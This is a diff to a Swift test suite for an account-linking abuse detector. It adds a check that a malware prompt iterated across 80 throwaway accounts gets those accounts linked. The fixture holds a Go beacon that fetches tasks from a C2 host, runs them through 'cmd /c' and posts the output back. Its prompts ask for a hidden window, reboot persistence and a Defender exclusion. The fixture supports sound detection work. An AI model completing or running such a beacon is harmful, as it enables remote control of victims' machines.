@@ -187,8 +187,9 @@ func analysisEvent(_ seq: Int64, account: String, category: String, score: Doubl
 }
 
 extension LinkingTests {
-    /// A hundred people who phrase a request the same way are not an operation: common wording
-    /// links nobody, however many share it, while an operation's own template still links it.
+    /// A hundred people who phrase a short request the same way are not an operation: common
+    /// wording links nobody, however many share it, while an operation's own template, and code
+    /// iterated across many throwaway accounts, still link.
     @Test func commonPhrasingLinksNobodyButAnOperationsTemplateDoes() {
         var seq: Int64 = 0
         var events: [AnalysisEvent] = []
@@ -203,10 +204,18 @@ extension LinkingTests {
         for member in 0..<5 {
             events += account("op-\(member)", seq: &seq, category: "influence", language: "zh", prompts: op, utcHours: Array(1...9), device: "dev-op-\(member)")
         }
+        // Code iterated across 80 throwaway accounts (one increment each) is long and specific: it
+        // links them however many they are.
+        let code = "package main\n\nimport (\n  \"net/http\"\n  \"os/exec\"\n  \"time\"\n)\n\nfunc beacon(c2 string) {\n  for {\n    resp, err := http.Get(c2 + \"/task\")\n    if err == nil {\n      out, _ := exec.Command(\"cmd\", \"/c\", readTask(resp)).Output()\n      post(c2, out)\n    }\n    time.Sleep(jitter(30))\n  }\n}\n"
+        for k in 0..<80 {
+            let prompt = "fix this so it also hides the window and survives reboot, step \(k):\n" + code + "// TODO step \(k): add the Defender exclusion"
+            events += account("throwaway-\(k)", seq: &seq, category: "cyber.malware", language: "en", prompts: [prompt], utcHours: [6, 7, 8])
+        }
         let result = NetworkAnalysis(policy: .default).run(events: events, infos: [:], observations: [], previous: [])
         let inNetworks = result.networks.flatMap(\.accounts)
         #expect(!inNetworks.contains { $0.hasPrefix("person-") }, "\(result.networks.map(\.accounts.count))")
         #expect(result.networks.map { Set($0.accounts) }.contains(Set((0..<5).map { "op-\($0)" })))
+        #expect(inNetworks.filter { $0.hasPrefix("throwaway-") }.count == 80, "\(result.networks.map(\.accounts.count))")
     }
 }
 
